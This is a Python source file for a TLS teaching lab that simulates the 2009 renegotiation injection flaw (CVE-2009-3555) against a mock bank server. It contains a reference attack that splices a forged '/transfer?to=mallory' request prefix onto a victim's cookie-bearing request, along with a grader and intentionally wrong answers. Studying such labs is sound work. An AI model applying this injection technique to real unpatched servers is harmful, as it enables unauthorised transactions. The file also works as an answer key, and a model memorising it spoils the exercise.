"""Lab 12: a stranger's bytes before those of a client, on one connection (RFC 5746 1, CVE-2009-3555).

The weak server takes a ClientHello on a connection that is there already for a new beginning, as every server did until 2009; the client
is one of those years, too, and does not know RFC 5746.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from puretls import danger
from puretls.connection import Connection
from puretls.errors import UsageError
from puretls.extensions import RenegotiationInfo
from puretls.handshake import server
from puretls.handshake.context import ServerContext
from puretls.handshake.effects import Step
from puretls.handshake.states import ServerState
from puretls.handshake.table import SERVER, row
from puretls.labs.ends import End, endings, one_record, relay
from puretls.labs.grading import Verdict
from puretls.labs.lab import Lab, Scene, Wrong
from puretls.labs.stage import Seeded
from puretls.messages.handshake import ClientHello
from puretls.messages.records import MAX_PLAINTEXT, Record

S = ServerState
PREFIX = b"GET /transfer?to=mallory HTTP/1.1\r\nX-Ignore: "


# The weakness


def _begins_anew(context: ServerContext, hello: ClientHello) -> Step:
    """What was before on this connection is forgotten, though its data was taken for the client's."""
    return server.on_client_hello(context.evolve(established=None), hello)


_SERVER_ROWS = tuple(
    row(S.CONNECTED, ClientHello, _begins_anew, *line.next_states)
    for line in SERVER
    if (line.state, line.input) == (S.CONNECTED, ClientHello)
)


# The peer


class Peer:
    """A bank's server, a client of it, and you in the place of the network between them.

    `client` connects to the bank, and asks for its account with a cookie; `server` is the connection to the bank, which does
    "GET /transfer?to=NAME" for whoever's cookie is in the request. `mine` is your own TLS client, for the same connection to the bank.
    All have `take()`, which gives records, and `give(*records)`.
    """

    def __init__(self, seed: int, fixed: bool) -> None:
        seeded = Seeded("renegotiation injection", seed)
        self._cookie = seeded.hex("cookie", 16)
        self._unread = b""
        self.orders: list[tuple[str, str]] = []
        """What the bank has done: for whom, and what."""
        of_2009 = (RenegotiationInfo(enabled=False),)
        server = seeded.server(renegotiation=True)
        if not fixed:
            danger.add_rows(server, *_SERVER_ROWS)
        self.client = End("the client", seeded.client(tickets=False, extensions=of_2009), self._ask)
        self.server = End("the server", server, self._answer)
        self.mine = Mine("your client", seeded.client(1, tickets=False))

    def _ask(self, connection: Connection, data: bytes) -> None:
        if not data:
            connection.send(f"GET /account HTTP/1.1\r\nCookie: session={self._cookie}\r\n\r\n".encode())

    def _answer(self, connection: Connection, data: bytes) -> None:
        """A request ends with an empty line; what came before it on this connection belongs to it."""
        self._unread += data
        while b"\r\n\r\n" in self._unread:
            request, _, self._unread = self._unread.partition(b"\r\n\r\n")
            connection.send(self._do(request.decode("latin-1")))

    def _do(self, request: str) -> bytes:
        path = request.split(" ")[1] if request.count(" ") else ""
        cookie = re.search(r"^Cookie: session=(\S+)", request, re.MULTILINE)
        if cookie is None or cookie[1] != self._cookie:
            return b"HTTP/1.1 403 Forbidden\r\n\r\n"
        self.orders.append(("alice", path))
        return b"HTTP/1.1 200 OK\r\n\r\n"


class Mine(End):
    """The attacker's own client: besides, it seals and opens single records under the keys of its connection."""

    def seal(self, record: bytes) -> bytes:
        """What a record in the clear holds, in a record of your connection."""
        clear = one_record(record)
        danger.parts(self._connection).outbound.send(clear.type, clear.fragment, MAX_PLAINTEXT)
        return b"".join(self._connection.segments_to_send())

    def open(self, record: bytes) -> bytes:
        """What a record of your connection holds, in a record in the clear. Raises `UsageError` where it is none of yours."""
        sealed = one_record(record)
        opened = danger.parts(self._connection).inbound.channel.open(sealed)
        if opened is None:
            raise UsageError("this record is not sealed under the keys of your connection")
        return Record(sealed.type, sealed.version, opened).to_bytes()


def check(peer: Peer, answer: object) -> Verdict:
    """What the bank has done."""
    for name, path in peer.orders:
        if path.startswith("/transfer?to=mallory"):
            return Verdict(True, (f"the bank has done {path} for {name}, who never asked for it.",))
    done = ", ".join(path for _, path in peer.orders) or "nothing"
    wanted = "it has to do /transfer?to=mallory with the client's cookie."
    return Verdict(False, (f"the bank has done {done}; {wanted}", *endings((peer.client, peer.server, peer.mine))))


# The reference attack


def attack(peer: Peer) -> None:
    """The beginning of a request, without the end of its line: the client's first line goes on there."""
    inject(peer, b"GET /transfer?to=mallory HTTP/1.1\r\nX-Ignore: ")


def inject(peer: Peer, prefix: bytes) -> None:
    """A prefix on a connection of your own, then the client's handshake inside of it, and the client's request behind."""
    mine, client, server = peer.mine, peer.client, peer.server
    relay(mine, server)
    mine.send(prefix)
    relay(mine, server)

    (hello,) = client.take(1)
    server.give(mine.seal(hello))
    client.give(*(mine.open(record) for record in server.take(4)))
    key_exchange, change, finished = client.take(3)
    server.give(mine.seal(key_exchange), mine.seal(change), finished)  # from Finished on the keys are the client's
    change, finished = server.take(2)
    client.give(mine.open(change), finished)
    relay(client, server)


# Wrong answers


def _a_whole_request(peer: Peer) -> None:
    inject(peer, b"GET /transfer?to=mallory HTTP/1.1\r\n\r\n")


def _hello_in_the_clear(peer: Peer) -> None:
    relay(peer.mine, peer.server)
    peer.mine.send(PREFIX)
    relay(peer.mine, peer.server)
    relay(peer.client, peer.server)


def _finished_sealed_again(peer: Peer) -> None:
    mine, client, server = peer.mine, peer.client, peer.server
    relay(mine, server)
    mine.send(PREFIX)
    relay(mine, server)
    (hello,) = client.take(1)
    server.give(mine.seal(hello))
    client.give(*(mine.open(record) for record in server.take()))
    server.give(*(mine.seal(record) for record in client.take()))
    relay(client, server)


def scenes(peer: Peer, answer: object) -> Iterable[Scene]:
    """What both ends saw."""
    yield Scene(
        "What the client saw",
        "A handshake like any other, in the clear until ChangeCipherSpec.",
        conversation=peer.client.conversation(),
    )
    yield Scene(
        "What the server saw",
        "Two handshakes on one connection: the attacker's, some data, and a renegotiation that is the client's first handshake.",
        conversation=peer.server.conversation(),
    )
    yield Scene("What the bank has done", lines=tuple(f"for {name}: {path}" for name, path in peer.orders))


LAB = Lab(
    number=12,
    name="renegotiation-injection",
    title="Renegotiation injection",
    rfc=("5746 1", "5746 3.7"),
    peer=Peer,
    reference=attack,
    check=check,
    wrong=(
        Wrong(
            "a whole request in front",
            _a_whole_request,
            "it ends before the client's cookie comes: the bank does not know whose it is",
        ),
        Wrong(
            "the client's hello in the clear", _hello_in_the_clear, "the connection has keys: a record in the clear does not open"
        ),
        Wrong("Finished sealed once more", _finished_sealed_again, "behind its ChangeCipherSpec the client has keys of its own"),
    ),
    scenes=scenes,
)
